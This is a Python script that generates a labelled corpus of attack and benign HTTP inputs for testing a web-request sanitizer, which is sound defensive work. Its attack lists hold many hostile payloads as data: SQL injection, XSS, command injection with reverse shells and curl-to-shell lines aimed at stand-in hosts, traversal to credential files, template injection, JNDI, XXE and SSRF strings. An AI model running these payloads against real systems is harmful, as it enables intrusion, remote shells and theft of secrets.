#!/usr/bin/env python3
"""Generates the sanitizer's labelled corpus: attacks.jsonl and benign.jsonl.

Written for Portcullis: every template below is ours. Attacks are built from a few break-out
contexts, payload shapes and evasions (case, comments, URL/double/entity/escape encoding) crossed
systematically; benign traffic from realistic API values (names with apostrophes, prices, markdown,
code snippets, URLs, international text). Deterministic (fixed seed): run it again and the files
are the same.

Each line: {"label": "<category>|benign", "kind": "query|query_raw|json|form|ua", "payload": "..."}
  query     -> GET /search?q=<payload, percent-encoded>
  query_raw -> GET /search?<payload as is>
  json      -> POST /echo, application/json, payload is the whole body
  form      -> POST /echo, application/x-www-form-urlencoded, comment=<payload, encoded>
  ua        -> GET /echo with User-Agent: <payload>
"""
import json
import random
import urllib.parse

rng = random.Random(5)


def url(s):
    return urllib.parse.quote(s, safe="")


def double_url(s):
    return url(url(s))


def mixed_case(s):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def entities(s):
    return "".join(f"&#x{ord(c):x};" if c in "<>\"'()=:" else c for c in s)


def js_escape(s):
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'" else c for c in s)


def comments_for_spaces(s):
    return s.replace(" ", "/**/")


def plus_spaces(s):
    return s.replace(" ", "+")


attacks = []


def add(label, kind, payload):
    attacks.append({"label": label, "kind": kind, "payload": payload})


# --- SQL injection --------------------------------------------------------------------------
sql_breakouts = ["'", "\"", "1'", "')", "abc'", "1)", "x\")", "1"]
sql_bodies = [
    " OR 1=1-- ",
    " OR '1'='1",
    " or 'x'='x' -- ",
    " OR 2>1#",
    " UNION SELECT NULL,NULL,version()-- ",
    " UNION ALL SELECT username,password FROM users#",
    " AND SLEEP(5)-- ",
    " AND 1=CONVERT(int,@@version)--",
    "; DROP TABLE users-- ",
    "; INSERT INTO admins VALUES ('eve','x')--",
    " ORDER BY 7-- ",
    " AND extractvalue(1,concat(0x7e,database()))--",
    " OR benchmark(5000000,md5(1))#",
    "; WAITFOR DELAY '0:0:5'--",
    " AND substring(version(),1,1)='5",
    " || 1=1 --",
]
sql_evasions = [lambda s: s, mixed_case, comments_for_spaces, url, double_url, plus_spaces]
for b in sql_breakouts:
    for body in sql_bodies:
        ev = rng.choice(sql_evasions)
        if ev is plus_spaces:
            # `+` for space only means something on the wire: send it as the raw query string.
            add("sqli", "query_raw", "q=" + urllib.parse.quote_plus(b + body))
        else:
            add("sqli", rng.choice(["query", "query", "form"]), ev(b + body))
for extra in ["admin'--", "admin' #", "admin'/*", "' or ''='", "\" or \"\"=\"", "1 or 1=1",
              "0 union select 1,2,3", "-1' union select load_file('/etc/passwd')-- ",
              "1;SELECT pg_sleep(5)", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"]:
    for ev in [lambda s: s, url, mixed_case]:
        add("sqli", "query", ev(extra))
for body in sql_bodies[:10]:
    add("sqli", "json", json.dumps({"username": "admin" + "'" + body, "password": "x"}))

# --- XSS --------------------------------------------------------------------------------------
xss_vectors = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "<svg/onload=confirm`1`>",
    "<body onload=prompt(1)>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(document.domain)",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "';alert(1);//",
    "\";alert(document.cookie);//",
    "<math><mtext><a href=javascript:alert(1)>x",
    "<video><source onerror=\"alert(1)\">",
    "<div style=\"width:expression(alert(1))\">",
]
xss_evasions = [lambda s: s, mixed_case, url, double_url, entities, js_escape]
for v in xss_vectors:
    for ev in xss_evasions:
        add("xss", rng.choice(["query", "form", "json_wrap"]), ev(v))
for v in ["jav&#x09;ascript:alert(1)", "java\tscript:alert(1)", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
          "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
          "<ScRiPt>alert(1)</sCrIpT>", "<img src=x oNeRrOr=alert(1)>"]:
    add("xss", "query", v)
    add("xss", "json_wrap", v)

# --- OS command injection -----------------------------------------------------------------
cmd_seps = [";", "|", "||", "&&", "&", "\n", "`", "$("]
cmd_bodies = [
    "cat /etc/passwd", "id", "whoami", "uname -a", "wget http://evil.example/x.sh -O /tmp/x",
    "curl -s http://evil.example/s | sh", "nc -e /bin/sh 10.0.0.1 4444", "ping -c 3 10.0.0.1",
    "sleep 10", "ls -la /", "type C:\\Windows\\win.ini", "powershell -enc SQBFAFgA",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
]
cmd_evasions = [lambda s: s, url, lambda s: s.replace(" ", "${IFS}"), lambda s: s.replace("a", "'a'", 1),
                lambda s: s.replace("i", "\\i", 1), double_url]
for sep in cmd_seps:
    for body in cmd_bodies:
        tail = "`" if sep == "`" else (")" if sep == "$(" else "")
        payload = "127.0.0.1" + sep + " " + body + tail
        ev = rng.choice(cmd_evasions)
        add("cmdi", rng.choice(["query", "form", "json_wrap"]), ev(payload))

# --- Path traversal / LFI -------------------------------------------------------------------
trav_seps = ["../", "..\\", "%2e%2e%2f", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af",
             "....//", "..;/", "%2e%2e%5c", "..%255c"]
trav_targets = ["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ",
                "WEB-INF/web.xml", "home/app/.ssh/id_rsa", "var/log/apache2/access.log", "app/config.yml"]
for sep in trav_seps:
    for t in trav_targets:
        depth = rng.randint(2, 7)
        payload = sep * depth + t
        add("traversal", "query_raw" if "%" in sep else rng.choice(["query", "json_wrap"]),
            ("file=" + payload) if "%" in sep else payload)
for w in ["php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd",
          "phar://uploads/x.jpg/shell", "zip://uploads/a.zip#shell.php", "expect://id",
          "/etc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts", "/proc/self/cmdline",
          "../../../../etc/passwd%00.png", "..\\..\\..\\boot.ini"]:
    for ev in [lambda s: s, url, double_url]:
        add("traversal", "query", ev(w))

# --- NoSQL operator injection -----------------------------------------------------------------
ops = ["$ne", "$gt", "$gte", "$lt", "$regex", "$where", "$in", "$nin", "$exists", "$expr", "$or"]
fields = ["username", "password", "email", "token", "id"]
for op in ops:
    for f in fields:
        val = {"$regex": ".*"} if op == "$regex" else ("this.password.length > 0" if op == "$where" else
              ([] if op in ("$in", "$nin", "$or") else (True if op == "$exists" else "")))
        body = {f: {op: val}} if op not in ("$where", "$or", "$expr") else {op: val}
        add("nosql", "json", json.dumps(body))
        add("nosql", "query_raw", f"{f}[{op}]=x")
for tpl in ['{{"user": "a", "pass": {{"{op}": null}}}}', '[{{"filter": {{"age": {{"{op}": 18}}}}}}]']:
    for op in ops:
        add("nosql", "json", tpl.format(op=op))

# --- Server-side template injection ------------------------------------------------------------
ssti = [
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${{7*7}}", "*{7*7}",
    "{{config.items()}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "{% import os %}{{os.system('id')}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "{{lipsum.__globals__.os.popen('id').read()}}", "#set($x=7*7)${x}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{ [].class.base.subclasses() }}",
    "${\"\".getClass().forName(\"java.lang.Runtime\")}", "{{constructor.constructor('return process')()}}",
]
for s in ssti:
    for ev in [lambda s: s, url, double_url, lambda s: s.replace("7*7", f"{rng.randint(2,99)}*{rng.randint(2,99)}")]:
        add("ssti", rng.choice(["query", "form", "json_wrap"]), ev(s))

# --- Scanner user agents ---------------------------------------------------------------------
tools = ["sqlmap/1.7.{n}#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.{n}) (Evasions:None)",
         "Nmap Scripting Engine; https://nmap.org/book/nse.html", "masscan/1.{n} (https://github.com/robertdavidgraham/masscan)",
         "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
         "WPScan v3.8.{n} (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.{n}", "Fuzz Faster U Fool v2.{n}",
         "Wfuzz/3.1.{n}", "Mozilla/5.0 zgrab/0.x", "Acunetix-WVS/{n}", "Mozilla/4.0 (compatible; Netsparker)",
         "OpenVAS-VT {n}", "Nessus SOAP v0.0.1 (Nessus.org)", "w3af.org", "Arachni/v1.{n}", "commix/v3.{n}",
         "dirsearch/0.4.{n}", "feroxbuster/2.{n}", "WhatWeb/0.5.{n}"]
for t in tools:
    for n in range(4):
        add("scanner", "ua", t.format(n=n))

# --- Benign traffic --------------------------------------------------------------------------
names = ["O'Brien", "D'Angelo", "Zoë Müller", "José Álvarez", "Séan O'Neill", "李雷", "Анна Петрова",
         "Øyvind Åsheim", "Nguyễn Văn An", "Renée L'Oréal", "Mary-Jane Smith", "Ahmed Al-Farsi",
         "Bjørn Ødegård", "Françoise d'Arc", "Kazuki Satō", "Ελένη Παπαδοπούλου"]
products = ["men's running shoes", "kids' rain boots", "4K monitor 27\"", "USB-C cable (2 m)",
            "organic coffee beans 1kg", "women's 'classic' jacket", "Rock 'n' Roll vinyl", "Tom & Jerry DVD",
            "stainless steel pan, 28cm", "100% cotton T-shirt", "3/4\" drill bit", "L'Or espresso pods"]
prices = ["$19.99", "€24,50", "£5", "¥1200", "$1,299.00", "20% off", "buy 2 get 1 free", "from $5 - $10"]
sentences = [
    "It's the best purchase I've made this year; shipping took 3 days.",
    "Doesn't fit — I'd like to return it, please.",
    "Can I select the size after ordering? I'm between M and L.",
    "The 'pro' version is worth it, or so they say.",
    "Works on Windows and macOS; Linux support is coming.",
    "Delete my old address and use the new one from my profile.",
    "I'll drop by the store on Friday & pick it up.",
    "Order #1234 arrived damaged (box crushed).",
    "Is this available in São Paulo or only in Rio?",
    "Great value: 5 stars! Would buy again.",
    "Where's my refund? It's been 2 weeks...",
    "He said \"it's fine\" but it isn't.",
    "Please update my e-mail to ana@example.com.",
    "Union members get 10% off on Tuesdays.",
    "Can you cat-sit while I'm away? Just kidding — wrong app.",
    "Sleep tracking stopped working after the update.",
    "The instructions say: insert tab A into slot B.",
    "Echo dot keeps disconnecting from Wi-Fi.",
    "My name has an apostrophe (O'Connor) and your form rejects it!",
    "1 or 2 units please, whichever is in stock.",
    "Type C adapters, not type A.",
    "Ping me when it ships: +44 20 7946 0958.",
    "München → Zürich → Milano, 3 Tage.",
    "東京都渋谷区の店舗で受け取りたいです。",
    "Доставка в Санкт-Петербург возможна?",
    "هل يتوفر هذا المنتج باللون الأزرق؟",
    "Ça marche très bien, merci !",
    "¿Dónde está mi pedido? Lo pedí el lunes.",
]
markdown = [
    "# Release notes\n\n- Fixed *checkout* bug\n- Added `--verbose` flag\n\nSee [docs](https://docs.example.com/guide).",
    "**Note:** prices include VAT (20%).\n\n> It's the little things.",
    "## Steps\n1. Open *Settings*\n2. Select **Account**\n3. Click `Save`",
    "```js\nconst total = items.reduce((a, b) => a + b.price, 0);\nif (total > 100 && user.isMember) { discount(); }\n```",
    "```python\ndef area(r):\n    return 3.14159 * r ** 2\nprint(area(2))\n```",
    "```rust\nfn main() { let v: Vec<i32> = (1..=5).collect(); println!(\"{:?}\", v); }\n```",
    "Use `npm install` then `npm test`; the output goes to ./build/report.html.",
    "Table:\n\n| size | price |\n|---|---|\n| S | $10 |\n| M | $12 |",
    "Relative link to [the FAQ](../faq.md) and an image ![logo](/static/logo.png).",
    "To compare: `a < b` and `b > c` imply `a < c`.",
    "SQL tip: use parameters, e.g. `SELECT name FROM users WHERE id = ?` — never string concatenation.",
    "HTML entities like &amp; and &lt; are escaped in the output.",
    "Template syntax in our docs: Hello {{name}}, your order ${orderId} is ready.",
    "Path on the server: /var/www/app/public, config in config/app.yml.",
]
urls = ["https://shop.example.com/p/123?ref=newsletter&utm_source=mail", "https://example.org/a/b/c.html#top",
        "http://localhost:3000/api/v1/users?page=2&per_page=50", "https://cdn.example.net/img/cat%20photo.jpg",
        "mailto:support@example.com", "https://maps.example.com/?q=48.8566,2.3522",
        "https://example.com/search?q=o%27brien&lang=en"]
uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36",
       "Mozilla/5.0 (X11; Linux x86_64; rv:{n}.0) Gecko/20100101 Firefox/{n}.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{n} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
       "curl/8.{n}.0", "python-requests/2.3{n}.0", "okhttp/4.{n}.0", "PostmanRuntime/7.{n}.0",
       "Go-http-client/1.1", "MyShopApp/3.{n} (Android 14; Pixel 8)"]

benign = []


def good(kind, payload):
    benign.append({"label": "benign", "kind": kind, "payload": payload})


for n in names:
    good("query", n)
    good("json", json.dumps({"name": n, "email": "user@example.com", "newsletter": True}, ensure_ascii=False))
for p in products:
    good("query", p)
    for pr in prices:
        good("json", json.dumps({"product": p, "price": pr, "qty": rng.randint(1, 9)}, ensure_ascii=False))
for s in sentences:
    good("form", s)
    good("query", s)
    good("json", json.dumps({"review": s, "rating": rng.randint(1, 5), "author": rng.choice(names)}, ensure_ascii=False))
for m in markdown:
    good("json", json.dumps({"title": "Post", "body": m, "tags": ["news", "howto"]}, ensure_ascii=False))
    good("form", m)
for u in urls:
    good("query", u)
    good("json", json.dumps({"link": u, "note": "see this"}))
for ua in uas:
    for n in range(6):
        good("ua", ua.format(n=110 + n if "Chrome" in ua or "Firefox" in ua else n))
for i in range(100):
    order = {
        "orderId": f"ORD-{rng.randint(10000, 99999)}",
        "customer": {"name": rng.choice(names), "address": f"{rng.randint(1, 200)} King's Road, London"},
        "items": [{"sku": f"SKU-{rng.randint(100, 999)}", "name": rng.choice(products), "price": round(rng.uniform(1, 500), 2)}
                  for _ in range(rng.randint(1, 4))],
        "note": rng.choice(sentences),
        "coupon": rng.choice(["", "SPRING-20", "VIP_2024", "free-ship"]),
    }
    good("json", json.dumps(order, ensure_ascii=False))
for i in range(50):
    a, b = rng.sample(sentences, 2)
    good("form", f"{a} {b}")
    good("query", f"{rng.choice(products)} {rng.choice(prices)}")

# --- Issue 14: development set for the new classes and broader grammars --------------------------
# Shapes crossed with contexts, seed 14. The held-back set (heldback.py) uses other templates.
r14 = random.Random(14)


def ctx(label, p):
    k = r14.randrange(4)
    if k == 0:
        add(label, "query", p)
    elif k == 1:
        add(label, "form", p)
    elif k == 2:
        add(label, "json_wrap", p)
    else:
        add(label, "query_raw", "v=" + url(p))


blind_conditions = ["JSON_EXTRACT('[1]','$[0]')=1", "JSON_VALID('{}')", "user() LIKE 'r%'", "(SELECT 1 FROM (SELECT 2)x)=1",
                    "SLEEP(3)", "pg_sleep(3) IS NULL", "1=(SELECT 1 WHERE 1 IN (SELECT 1))", "'a' RLIKE 'a'",
                    "BENCHMARK(100000,MD5('a'))", "DBMS_PIPE.RECEIVE_MESSAGE('x',3)=1", "LENGTH(database())>1",
                    "1::int=1", "CAST('1' AS int)=1", "lo_creat(-1)>0", "(SELECT COUNT(*) FROM information_schema.tables)>0"]
for pre in ["1 AND ", "1' AND ", "x\" OR ", "5) AND ("]:
    for c in blind_conditions:
        tail = "" if pre[0] == "1" and pre[1] == " " else ("-- -" if r14.random() < .5 else " AND 'z'='z" if "'" in pre else "")
        ctx("sqli", pre + c + tail)
for c in ["1;WAITFOR DELAY '0:0:3'", "1)) OR SLEEP(2)#", "1 OR 1::text='1'", "1;SELECT lo_export(1,'/tmp/x')",
          "1 AND CONVERT(int,db_name())>0", "(SELECT CASE WHEN 1=1 THEN 1 ELSE 0 END)", "1 ORDER BY (SELECT 1)"]:
    ctx("sqli", c)

sinks = ["alert", "confirm", "prompt", "eval", "print", "Function", "setTimeout", "setInterval"]
for sink in sinks:
    for shape in ["{s}.call(null,1)", "{s}.apply(null,[1])", "window['{s}'](1)", "this[\"{s}\"](1)", "{s}`1`",
                  "top['{s}']`1`", "x=>{s}(1)", "({s})(1)"]:
        ctx("xss", shape.format(s=sink))
for h in ["onmouseenter", "onpointerdown", "onbeforeinput", "onauxclick", "onwheel", "onanimationend"]:
    ctx("xss", f"\" {h}=\"alert(1)")
    ctx("xss", f"<p {h}=confirm(1)>")
for uri in ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]:
    enc = "".join(f"&#{ord(c)}" for c in uri[:11]) + uri[11:]
    ctx("xss", f"<a href=\"{enc}\">x</a>")
    enc2 = "".join(f"&#x{ord(c):X};" for c in uri[:11]) + uri[11:]
    ctx("xss", f"<iframe src='{enc2}'>")

win = ["ver", "type %WINDIR%\\system.ini", "IF 1==1 (whoami)", "FOR /L %i IN (1,1,3) DO echo %i", "echo %COMPUTERNAME%",
       "c^a^l^c", "set /a 1+1", "powershell -EncodedCommand ZQBjAGgAbwA=", "powershell IEX (iwr http://e.example/x)",
       "powershell Invoke-Expression 'whoami'", "pwsh -enc ZQBjAGgAbwA=", "cmd.exe /c dir"]
unix = ["id | base64", "cat /etc/hosts | xxd", "uname -a | nc e.example 80", "whoami | od -c", "ls | base32",
        "env | curl -d @- http://e.example", "a=$(whoami);echo $a", "echo `id`", "cat${IFS}/etc/issue", "sleep${IFS}5"]
for sep in ["&", "|", "&&", "||", "\r\n"]:
    for w in win:
        if r14.random() < .5:
            ctx("cmdi", "x" + sep + w)
for sep in [";", "|", "&&", "||", "\n", "$(", "`"]:
    for u in unix:
        if r14.random() < .5:
            tail = ")" if sep == "$(" else ("`" if sep == "`" else "")
            ctx("cmdi", "a" + sep + u + tail)
for asp in ["Response.Write(CreateObject(\"WScript.Shell\").Exec(\"cmd /c dir\").StdOut.ReadAll())",
            "Execute(Request(\"c\"))", "Eval(Request.Form(\"x\"))", "CreateObject(\"Scripting.FileSystemObject\")"]:
    ctx("cmdi", asp)

for op in ["$ne", "$gt", "$regex", "$where", "$nin", "$exists"]:
    add("nosql", "path", url("{" + op + ": 1}"))
    add("nosql", "path", url("{\"x\": {\"" + op + "\": \"\"}}"))
    add("nosql", "query", "{'" + op + "': ''}")
    add("nosql", "query_raw", f"u[{url(op)}]=1")
for js in ["'; return this.a != ''; var z='", "\" || this.role == \"admin", "1; return true", "'||1==1//"]:
    ctx("nosql", js)

dtds = ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/issue">]><a>&b;</a>', '<!DOCTYPE a [<!ENTITY % c SYSTEM "http://e.example/d">%c;]>',
        '<!DOCTYPE a SYSTEM "http://e.example/a.dtd"><a/>', '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/issue"/></a>',
        '<?xml version="1.0" encoding="UTF-16"?><a/>', '<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z "&x;&x;">]><a>&z;</a>']
for d in dtds:
    ctx("xxe", d)
    add("xxe", "xml", d)
for hdr in ["Set-Cookie: s=1", "Location: /evil", "X-Forwarded-For: 1.2.3.4", "Content-Type: text/html", "Access-Control-Allow-Origin: *"]:
    for nl in ["%0d%0a", "%0a", "%0d", "%250d%250a", "%E5%98%8A%E5%98%8D"]:
        if r14.random() < .5:
            add("crlf", "query_raw", "lang=en" + nl + url(hdr))
            add("crlf", "path", "x" + nl + url(hdr))
for f in ["*)(objectClass=*", "x)(|(cn=*)", "*)(&(uid=*)", "a)(!(sn=*)", "(|(mail=*)(uid=*))", "z)(&)"]:
    ctx("ldap", f)
for d in ["exec cmd=\"cat /etc/issue\"", "include file=\"/etc/issue\"", "echo var=\"DATE_LOCAL\"", "exec cgi=\"/x.cgi\""]:
    ctx("ssi", "<!--#" + d + " -->")
    ctx("ssi", "<!-- #" + d + "-->")
for m in ["a@b.c\nBcc: x@e.example", "a@b.c\r\nCc: x@e.example", "x\r\nMAIL FROM:<x@e.example>", "x\r\nRCPT TO:<x@e.example>",
          "INBOX\r\nX1 FETCH 1 BODY[]", "x\r\n.\r\nQUIT"]:
    ctx("mail", m)
for j in ["${jndi:ldap://e.example/x}", "${${lower:J}ndi:dns://e.example}", "${${::-J}NDI:rmi://e.example/x}",
          "${${env:X:-j}ndi:ldap://e.example}", "${j${lower:n}di:ldap://e.example}"]:
    ctx("jndi", j)
    add("jndi", "ua", "curl/8 " + j)
for j in ["%{@java.lang.Runtime@getRuntime().exec('id')}", "T(java.lang.System).getenv()", "${facesContext.externalContext}",
          "#{session.getAttribute('x')}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "aced0005737200", "''.getClass().forName('x')"]:
    ctx("java", j)
for p in ["<?php echo shell_exec('id'); ?>", "<?=system('id')?>", "exec('ls')", "popen('id','r')",
          "O:4:\"User\":1:{s:4:\"role\";s:5:\"admin\";}", "$_GET['x']($_GET['y'])", "call_user_func_array('system',['id'])"]:
    ctx("php", p)
for h in ["169.254.169.254", "0xa9.0xfe.0xa9.0xfe", "0x7f.1", "[::ffff:7f00:1]", "2130706433", "metadata.google.internal"]:
    add("ssrf", "query_raw", "url=" + url("http://" + h + "/x"))
    add("ssrf", "json", json.dumps({"webhook_url": "https://" + h + "/"}))
for h in ["127.0.0.1", "10.0.0.8", "localhost:8080", "192.168.1.1"]:
    add("ssrf", "query_raw", "callback=" + url("http://" + h + "/"))
for u in ["gopher://localhost:25/_HELO", "dict://localhost:6379/info"]:
    ctx("ssrf", u)
for n in ["__proto__[a]=1", "a[__proto__][b]=1", "constructor[prototype][c]=1", "x.constructor.prototype.d=1"]:
    add("prototype_pollution", "query_raw", n)
for b in ['{"__proto__": {"a": 1}}', '{"a": {"constructor": {"prototype": {"b": 1}}}}']:
    add("prototype_pollution", "json", b)
for n in ["PHPSESSID=x", "JSESSIONID=y", "ASPSESSIONIDABCD=z", "ASP.NET_SessionId=w"]:
    add("session_fixation", "query_raw", n)
for n in ["<script>document.cookie='a=b'</script>", "<meta http-equiv='set-cookie' content='a=b'>"]:
    ctx("session_fixation", n)
for n, u in [("page", "http://e.example/x.txt"), ("file", "https://e.example/s"), ("include", "ftp://e.example/a"),
             ("template", "//e.example/t"), ("lang", "http://e.example/l.txt?")]:
    add("rfi", "query_raw", f"{n}={url(u)}")

# Benign that looks dangerous (development part).
for t in ["SELECT a plan: basic, pro or team", "Don't forget to drop by", "user+news@example.com", "\"a b\"@example.com",
          "ls, cd and cat are basic commands", "echo 'hello' > file.txt (in the tutorial)", "Use ${VAR} in .env files",
          "C# and F# are .NET languages", "x => x * 2", "arr.map(f).filter(Boolean)", "window.onload is an event",
          "The constructor runs first; the prototype holds methods", "Location: Berlin\nSalary: competitive",
          "From: Alice\nTo: Bob\nSubject: lunch", "<?xml version=\"1.0\"?><note><to>Bob</to></note>",
          "(cn=admin)", "http://localhost:8080/health is our dev URL", "OR-1234 is the ticket", "It's 1=1 in the doc",
          "dGhpcyBpcyBqdXN0IGJhc2U2NA==", "page 2 of 10", "include the receipt", "exec summary attached",
          "I want to select, insert and delete rows in the spreadsheet", "and/or", "100 < 200 > 50",
          "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhYmMifQ.sig", "Ünïcödé 😀 日本語 한국어 עברית"]:
    good("query", t)
    good("json", json.dumps({"body": t}, ensure_ascii=False))
# Developer-forum content (development part): shell pipelines and commands in inline code,
# dunder methods, React handlers, fetch chains.
for t in ["To count lines: grep -c error app.log | sort -n | head", "Try `wget -qO- https://example.com/install.sh` first",
          "Python calls __init__ when the object is created", "Override __repr__ and __eq__ for nicer output",
          "<input onChange={(e) => setName(e.target.value)} />", "<a onClick={() => navigate('/home')}>Home</a>",
          "fetch(url).then(res => res.text())", "atob(token.split('.')[1]) decodes a JWT payload",
          "Run `ls -la | less` to page through", "Use `nc -zv host 443` to test the port"]:
    good("json", json.dumps({"post": {"body": t, "votes": r14.randint(0, 99)}}))
    good("form", t)
for n, v in [("url", "https://example.com/a?b=c"), ("callback_url", "https://hooks.example.com/x"), ("page", "3"),
             ("file", "report.pdf"), ("template", "invoice"), ("redirect_uri", "https://app.example.com/cb"), ("sid", "42"),
             ("session_id", "cs_test_a1b2c3")]:
    good("query_raw", f"{n}={url(v)}")

with open("attacks.jsonl", "w", encoding="utf-8") as f:
    for a in attacks:
        if a["kind"] == "json_wrap":
            a = {"label": a["label"], "kind": "json", "payload": json.dumps({"comment": a["payload"]}, ensure_ascii=False)}
        f.write(json.dumps(a, ensure_ascii=False) + "\n")
with open("benign.jsonl", "w", encoding="utf-8") as f:
    for b in benign:
        f.write(json.dumps(b, ensure_ascii=False) + "\n")

from collections import Counter
print("attacks:", len(attacks), dict(Counter(a["label"] for a in attacks)))
print("benign:", len(benign))
